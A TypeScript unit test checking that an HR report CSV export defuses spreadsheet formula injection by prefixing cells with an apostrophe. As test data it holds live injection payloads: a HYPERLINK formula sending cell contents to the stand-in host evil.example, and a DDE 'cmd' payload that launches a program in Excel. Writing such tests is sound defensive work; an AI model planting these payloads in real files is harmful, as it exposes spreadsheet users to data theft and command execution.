import { parse } from 'csv-parse/sync';
import { HrReport } from '../../src/domain/hr-report/report';
import { reportCsv } from '../../src/web/hr-report/report-files';

/**
 * The HR report CSV carries text that group members and managers typed (group name,
 * adopted proposal, first step, its note, a manager's shared facilitation account). HR opens the
 * file in Excel; a cell that starts with = + - @ (or tab / carriage return) is run as a formula
 * there (CSV/formula injection, OWASP). Such cells must be neutralised (e.g. prefixed with ').
 */
describe('the HR report CSV does not hand Excel a formula a member typed', () => {
  const evil = '=HYPERLINK("https://evil.example/?d="&A1,"Klik hier")';
  const report: HrReport = {
    period: { from: '2026-01-01', to: '2026-06-30' },
    groupsActive: 1,
    sessionsHeld: 4,
    learningHours: 16,
    proposalsMade: 1,
    proposalsValidated: 1,
    proposalsRejected: 0,
    energy: [],
    b3: [],
    facilitation: { conversationsPlanned: 1, withAccount: 1, shared: ['+cmd|" /C calc"!A0'] },
    adoption: {
      adopted: 1,
      lookedBack: 1,
      taken: 1,
      takenShare: 100,
      groups: [{ groupName: '@SUM(1+1)', proposals: [{ verdict: 'accept', text: evil, decidedOn: '2026-03-02', outcome: { status: 'done' } }] }],
    },
  };

  it('no cell of the file starts with a formula character', () => {
    const rows: string[][] = parse(reportCsv(report));
    const dangerous = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(dangerous).toEqual([]);
    // Neutralised with a leading apostrophe, the text itself is kept.
    expect(rows.flat()).toContain(`'${evil}`);
    // Figures stay figures, negative ones too.
    expect(parse(reportCsv({ ...report, sessionsHeld: -1 })).flat()).toContain('-1');
  });
});
